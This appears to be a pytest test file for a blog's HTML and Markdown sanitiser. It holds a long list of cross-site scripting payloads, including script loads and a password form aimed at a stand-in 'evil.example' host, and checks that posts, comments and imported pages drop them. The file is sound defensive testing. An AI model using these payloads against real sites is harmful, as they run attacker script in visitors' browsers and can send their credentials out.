"""Markup meant to run something in a reader's browser, or to break the page around it."""

import re
from html.parser import HTMLParser
from typing import override
from urllib.parse import urlsplit

import pytest

from cpdblog.lib.markup import sanitise
from cpdblog.lib.markup.markdown import clean_html, render_comment, render_post
from tests.lib.test_text.inputs import SENDER

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/x onerror=alert(1)>",
    '<img src="/media/x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src='/media/x' ONLOAD=alert(1)//",
    '<img src="/media/../x?javascript:1" onload=alert(1)>',
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='text-align:right;position:fixed'>x</p>",
    "<div class='modal overlay'>x</div>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<frameset onload=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href='x' onmouseover='alert(1)' title='y'>x</a>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<a ping=//evil.example href=/x>x</a>",
    "<a target=_blank href=/x>x</a>",
    "<p id=location>x</p>",
    "<a name=getElementById href=/x>x</a>",
    "<b/onclick=alert(1)>x</b>",
    "<b onclick\n=\nalert(1)>x</b>",
    "<b \x0conclick=alert(1)>x</b>",
    "<b title='x'onclick=alert(1)>x</b>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<custom-tag onclick=alert(1)>x</custom-tag>",
    "<<b>script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](/media/x "onerror=alert(1)")',
    '![x" onerror="alert(1)](/media/x)',
    '[x](/y "t" onclick=alert(1))',
    "<javascript:alert(1)>",
    "```<script>alert(1)</script>\nx\n```",
    '``` {.x onclick="alert(1)"}\nx\n```',
    "/// details | <img src=x onerror=alert(1)>\nx\n///",
    '/// caption\n    attrs: {onclick: "alert(1)"}\nx\n///',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '*[A]: "><script>alert(1)</script>\n\nA',
    "# <img src=x onerror=alert(1)>",
    "@<script>alert(1)</script> #<script>alert(1)</script>",
]
# Said here once more: what may pass is not for the code under test to decide.
_TAGS = """
    a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em
    figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span
    strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr
"""
TAGS = frozenset(_TAGS.split())
_KNOWN = """
    alt class colspan datetime decoding dir height href id lang loading open rel reversed rowspan
    scope span src start title value width
"""
_ATTRIBUTES = frozenset(_KNOWN.split())


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            scheme = urlsplit(re.sub(r"[\s\x00-\x20]", "", value or "")).scheme
            address = name in {"href", "src"}
            if name not in _ATTRIBUTES or (
                address and scheme not in {"", "http", "https", "mailto"}
            ):
                self.faults.append(f"{tag} {name}={value}")
            if name == "src" and not (value or "").startswith("/media/"):
                self.faults.append(f"{tag} {name}={value}")
            if name == "id" and not (value or "").startswith("p1-"):
                self.faults.append(f"{tag} {name}={value}")


def faults(page: str) -> list[str]:
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.faults


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs_in_a_post(vector: str) -> None:
    assert faults(render_post(vector, prefix="p1-", **SENDER)) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs_in_a_comment(vector: str) -> None:
    assert faults(render_comment(vector, **SENDER)) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs_in_an_imported_post(vector: str) -> None:
    assert faults(clean_html(vector, prefix="p1-", own_hosts=frozenset())) == []


def imported(page: str) -> str:
    return clean_html(page, prefix="p1-", own_hosts=frozenset({"cpd.example"}))


def test_a_remote_picture_becomes_a_link_with_its_words() -> None:
    page = imported(
        '<img src="https://other.example/a.png" alt="A hall"><img src="http://x.org/b">'
    )

    assert ">A hall</a>" in page
    assert ">picture</a>" in page
    assert "<img" not in page


def test_a_picture_of_ours_keeps_its_size_and_words() -> None:
    page = imported('<img alt="A" height="3" src="/media/a.png" width="4" onload="x()">')

    assert page == (
        '<img alt="A" height="3" src="/media/a.png" width="4" loading="lazy" decoding="async">'
    )


@pytest.mark.parametrize(
    ("page", "shown"),
    [
        ("<p>one<!-- two --> three<!-- <b> > -- -->five</p>", "<p>one threefive</p>"),
        ("<p>a<!--><b>--> c<!----></p>", "<p>a c</p>"),
        ("a<!-- b <p>c</p>", "a&lt;!-- b <p>c</p>"),
        ("1 < 2, a <b", "1 &lt; 2, a &lt;b"),
        ("<!DOCTYPE html><p>x</p><?php y ?>", "<p>x</p>"),
    ],
)
def test_comments_and_instructions_go_and_every_word_beside_them_stays(
    page: str, shown: str
) -> None:
    assert imported(page) == shown


def test_old_alignment_becomes_a_class() -> None:
    assert 'class="align-right"' in imported(
        '<img class="alignright size-full" src="/media/a.png">'
    )
    assert 'class="align-center"' in imported('<p style="color:red; text-align: center">x</p>')


def test_an_imported_page_title_leaves_room_for_ours() -> None:
    assert imported("<h1>Title</h1>") == "<h2>Title</h2>"


def test_paragraphs_that_were_never_closed_stay_apart() -> None:
    page = imported("<p>one" * 100 + "<ul>" + "<li>two" * 100 + "</ul>")

    assert page.count("<p>one</p>") == 100
    assert page.count("<li>two</li>") == 100


@pytest.mark.parametrize(
    ("page", "shown"),
    [("<b><i>x</b>y", "<b><i>x</i></b>y"), ("<i><b>x</i>y", "<i><b>x</b></i>y")],
)
def test_what_is_closed_ends_there_with_all_that_was_opened_in_it(page: str, shown: str) -> None:
    assert imported(page) == shown


@pytest.mark.parametrize(("written", "kept"), [(32, 32), (33, 32)])
def test_as_many_as_32_quotations_stand_in_each_other(written: int, kept: int) -> None:
    page = imported("<blockquote>" * written + "x" + "</blockquote>" * written)

    assert page == "<blockquote>" * kept + "x" + "</blockquote>" * kept


def test_an_address_keeps_its_parameters() -> None:
    assert 'href="/x?a=1&amp;copy=2"' in imported('<a href="/x?a=1&copy=2">x</a>')


def test_unclosed_formatting_does_not_multiply() -> None:
    page = "".join(f"<b title={n}><p>" for n in range(3_000))

    assert len(imported(page)) < 3 * len(page)


@pytest.mark.parametrize("tag", ["iframe", "object", "embed", "video", "audio", "form", "input"])
def test_nothing_that_brings_another_page_or_a_form_along_is_allowed(tag: str) -> None:
    page = f'<p>Before <{tag} src="https://elsewhere.example/" width="9">in it</{tag}> after</p>'

    for shown in (
        clean_html(page, prefix="p1-", own_hosts=frozenset()),
        render_post(page, prefix="p1-", **SENDER),
        render_comment(page, **SENDER),
    ):
        assert f"<{tag}" not in shown
        assert "Before" in shown
        assert "after" in shown


@pytest.mark.parametrize("source", ["https://elsewhere.example/a.png", "//x.example/a", "data:,x"])
def test_the_last_step_lets_no_picture_from_elsewhere_pass_either(source: str) -> None:
    """Behind the step that makes links of them, should that ever miss one."""
    last_step = sanitise._cleaner("", TAGS)

    assert "src" not in last_step.clean(f'<img alt="A hall" src="{source}">')
    assert 'src="/media/a.png"' in last_step.clean('<img alt="A hall" src="/media/a.png">')
